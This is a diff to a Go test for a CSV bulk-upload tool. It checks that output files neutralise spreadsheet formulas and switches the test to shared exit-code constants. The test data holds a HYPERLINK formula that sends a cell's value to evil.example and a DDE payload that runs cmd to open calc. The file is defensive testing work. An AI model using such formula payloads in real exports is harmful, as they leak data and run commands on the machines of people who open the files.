@@ -12,6 +12,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/bulkload/bulkload/app"
 	"github.com/bulkload/bulkload/lead"
 	"github.com/bulkload/bulkload/leadsim"
 )
@@ -59,7 +60,7 @@ func TestOutputsNeutraliseFormulas(t *testing.T) {
 	}
 	// Row 1 is sent, with formula-looking leadId and ref; rows 2 and 3 are
 	// invalid (a broken e-mail, a negative loan amount) and carry formulas
-	// in their names and city.
+	// In their names and city.
 	recs[1][col["leadId"]] = `=HYPERLINK("http://evil.example/?"&B2,"open")`
 	recs[1][col["ref"]] = `@SUM(1+1)*cmd|' /C calc'!A0`
 	recs[2][col["email"]] = "not-an-email"
@@ -75,8 +76,8 @@ func TestOutputsNeutraliseFormulas(t *testing.T) {
 
 	args := slices.Concat([]string{"upload"}, s.args(), []string{"--results", results, "--rejects", rejects, "--progress", "off", "--rate", "0"})
 	res := runCLI(t, secretEnv(), append(args, input)...)
-	if res.code != exitOK {
-		t.Fatalf("upload: exit %d, want %d (two invalid rows, within --max-invalid)\n%s", res.code, exitOK, res.stderr)
+	if res.code != app.ExitOK {
+		t.Fatalf("upload: exit %d, want %d (two invalid rows, within --max-invalid)\n%s", res.code, app.ExitOK, res.stderr)
 	}
 	assertNoFormulaCell(t, results)
 	assertNoFormulaCell(t, rejects)
@@ -91,8 +92,8 @@ func TestOutputsNeutraliseFormulas(t *testing.T) {
 	// The results file reads back: a resume sends nothing again.
 	calls := len(s.Stats().CreateCalls)
 	res = runCLI(t, secretEnv(), append(args, "--resume", input)...)
-	if res.code != exitOK {
-		t.Fatalf("--resume: exit %d, want %d\n%s", res.code, exitOK, res.stderr)
+	if res.code != app.ExitOK {
+		t.Fatalf("--resume: exit %d, want %d\n%s", res.code, app.ExitOK, res.stderr)
 	}
 	if n := len(s.Stats().CreateCalls); n != calls {
 		t.Errorf("--resume sent %d leads again; the escaped results were not read back", n-calls)
@@ -102,8 +103,8 @@ func TestOutputsNeutraliseFormulas(t *testing.T) {
 	// own rejects (validate) hold the rows as the input had them.
 	again := filepath.Join(dir, "again.rejects.csv")
 	res = runCLI(t, nil, "validate", "--results", filepath.Join(dir, "v.csv"), "--rejects", again, rejects)
-	if res.code != exitRowsFailed {
-		t.Fatalf("validate rejects: exit %d, want %d\n%s", res.code, exitRowsFailed, res.stderr)
+	if res.code != app.ExitRowsFailed {
+		t.Fatalf("validate rejects: exit %d, want %d\n%s", res.code, app.ExitRowsFailed, res.stderr)
 	}
 	first := readCSVFile(t, rejects)
 	second := readCSVFile(t, again)
